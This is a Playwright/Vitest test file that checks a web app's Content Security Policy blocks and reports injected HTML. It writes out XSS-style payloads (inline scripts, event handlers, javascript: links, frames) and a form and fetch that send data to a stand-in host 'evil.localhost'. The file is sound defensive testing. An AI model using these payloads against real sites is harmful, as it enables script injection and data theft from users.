import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type TestApp, testApp } from '#server/testing/app.ts';
import { testCertificate } from '#server/testing/certificate.ts';
import { pageFolder } from '../cli/page-folder.ts';
import { testBrowser } from './support/browser.ts';
import { startTlsFront, type TlsFront } from './support/tls-front.ts';
import type { PageViolation } from './support/violations.ts';

/** The name stays with the machine: the browser under test reaches nobody else. */
const EVIL = 'http://evil.localhost:9';

/** What a fault of ours could let somebody put into the page, and the directive that stops it. */
const INJECTIONS: readonly (readonly [what: string, html: string, directive: string, blocked: string])[] = [
  ['a script', '<script>globalThis.hacked = true</script>', 'script-src-elem', 'inline'],
  ['a module', '<script type="module">globalThis.hacked = true</script>', 'script-src-elem', 'inline'],
  ['a script from elsewhere', `<script src="${EVIL}/x.js"></script>`, 'script-src-elem', EVIL],
  [
    'a script in its address',
    '<script src="data:text/javascript,globalThis.hacked=true"></script>',
    'script-src-elem',
    'data',
  ],
  [
    'an event handler',
    '<img src="/favicon.svg" onload="globalThis.hacked = true">',
    'script-src-attr',
    'inline',
  ],
  ['an element that is drawn', '<svg onload="globalThis.hacked = true"></svg>', 'script-src-attr', 'inline'],
  ['a frame', `<iframe src="${EVIL}/"></iframe>`, 'frame-src', EVIL],
  ['a plug-in', `<object data="${EVIL}/x.swf"></object>`, 'object-src', EVIL],
  ['another base', `<base href="${EVIL}/">`, 'base-uri', EVIL],
  ['a style', '<style>body { display: none }</style>', 'style-src-elem', 'inline'],
  ['a style attribute', '<p style="position: fixed; inset: 0">covered</p>', 'style-src-attr', 'inline'],
  ['a style sheet from elsewhere', `<link rel="stylesheet" href="${EVIL}/x.css">`, 'style-src-elem', EVIL],
  ['a picture that tells who looks', `<img src="${EVIL}/seen.png">`, 'img-src', EVIL],
];

const { window, violationsOf, complaints } = await testBrowser([
  // Reports are sent at once instead of within a minute, also to a certificate that signs itself.
  '--short-reporting-delay',
  '--ignore-certificate-errors',
]);

/** How often browsers have reported each directive so far. */
async function counted(app: TestApp): Promise<Record<string, number>> {
  const metrics = await app.app.instruments.registry.metrics();
  const lines = metrics.matchAll(/^region_dashboard_csp_violations_total\{directive="([^"]+)"\} (\d+)$/gm);
  return Object.fromEntries([...lines].map(([, directive, count]) => [directive, Number(count)]));
}

/** Opens the page, with this in it as if the server had let the HTML through. */
async function openPage(address: string, html = ''): Promise<Page> {
  const page = await window(undefined, {
    // Without it browsers send no reports by the Reporting API.
    permissions: ['background-sync'],
    ignoreHTTPSErrors: true,
  });
  await page.route('**/sign-in', async route => {
    const response = await route.fetch();
    const text = await response.text();
    await route.fulfill({ response, body: text.replace('<div id="root">', `${html}<div id="root">`) });
  });
  await page.goto(new URL('/sign-in', address).href);
  await page.getByLabel('E-mail').waitFor();
  return page;
}

/** Waits for a violation, which browsers tell a little later; then the window is closed. */
async function expectBlocked(page: Page, directive: string, blocked: string): Promise<void> {
  const found: PageViolation[] = [];
  await expect
    .poll(() => {
      found.push(...violationsOf(page));
      return found;
    })
    .toContainEqual(
      expect.objectContaining({ directive, blocked: expect.stringMatching(new RegExp(`^${blocked}`)) }),
    );
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  await page.context().close();
  // The browser writes each on the console as well.
  violationsOf(page);
  complaints.splice(0);
}

describe('what gets into the page does nothing, and is reported', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await testApp({ pageFolder: pageFolder() });
  });
  afterAll(() => app?.close());

  /** Runs this, after which one more report has been counted. */
  async function reported(directive: string, run: () => Promise<void>): Promise<void> {
    const before = (await counted(app))[directive] ?? 0;
    await run();
    await expect.poll(async () => (await counted(app))[directive] ?? 0).toBeGreaterThan(before);
  }

  test.each(INJECTIONS)('%s', async (_, html, directive, blocked) => {
    await reported(directive, async () =>
      expectBlocked(await openPage(app.address, html), directive, blocked),
    );
  });

  test('an address that is a script, when somebody follows it', async () => {
    await reported('script-src-elem', async () => {
      const trap = '<a id="trap" href="javascript:globalThis.hacked = true">Click</a>';
      const page = await openPage(app.address, trap);
      await page.locator('#trap').click();
      await expectBlocked(page, 'script-src-elem', 'inline');
    });
  });

  test('a form that sends what was typed elsewhere', async () => {
    await reported('form-action', async () => {
      const trap = `<form action="${EVIL}/steal"><button id="trap">Go on</button></form>`;
      const page = await openPage(app.address, trap);
      // A click would wait for the page that never comes.
      await page.locator('#trap').evaluate((button: HTMLButtonElement) => button.click());
      await expectBlocked(page, 'form-action', EVIL);
    });
  });

  test.each([
    ['HTML made from text', () => document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')],
    [
      'a script made from text',
      () => document.head.append(Object.assign(document.createElement('script'), { text: 'hacked = 1' })),
    ],
    [
      'a frame’s page made from text',
      () => document.createElement('iframe').setAttribute('srcdoc', '<b>bold</b>'),
    ],
  ])('%s, by a fault of our own scripts', async (_, fault) => {
    await reported('require-trusted-types-for', async () => {
      const page = await openPage(app.address);
      await expect(page.evaluate(fault)).rejects.toThrow(/TrustedHTML|TrustedScript/);
      await expectBlocked(page, 'require-trusted-types-for', 'trusted-types-sink');
    });
  });

  test('requests to anywhere else', async () => {
    await reported('connect-src', async () => {
      const page = await openPage(app.address);
      const sent = page.evaluate(
        evil => fetch(`${evil}/steal`, { mode: 'no-cors' }).then(() => 'sent'),
        EVIL,
      );
      await expect(sent).rejects.toThrow();
      await expectBlocked(page, 'connect-src', EVIL);
    });
  });

  test('a frame with a page of its own; such a report names no page of ours and is not counted', async () => {
    const html = '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>';
    await expectBlocked(await openPage(app.address, html), 'script-src-elem', 'inline');
  });

  test('of all that the log has directives and origins, a line per directive', () => {
    const lines = app.logged.filter(line => line.includes('content security policy'));
    expect(lines.length).toBeGreaterThan(5);
    const directives = lines.map(line => (JSON.parse(line) as { directive: string }).directive);
    expect(new Set(directives).size).toBe(directives.length);
    expect(lines.join()).not.toMatch(/hacked|x\.js|seen\.png|steal|sign-in/);
  });
});

describe('by https', () => {
  let front: TlsFront;
  let app: TestApp;
  beforeAll(async () => {
    front = await startTlsFront(await testCertificate());
    const address = `https://127.0.0.1:${front.port}`;
    app = await testApp({ pageFolder: pageFolder(), env: { PUBLIC_URL: address } });
    front.target = app.address;
  });
  afterAll(async () => {
    await front?.close();
    await app?.close();
  });

  test('reports arrive by the Reporting API', async () => {
    const page = await openPage(
      `https://127.0.0.1:${front.port}`,
      '<script>globalThis.hacked = true</script>',
    );
    // Before the window is gone: what it has not sent then, it never sends.
    await expect.poll(async () => (await counted(app))['script-src-elem'], { timeout: 30_000 }).toBe(1);
    await expectBlocked(page, 'script-src-elem', 'inline');
  });
});
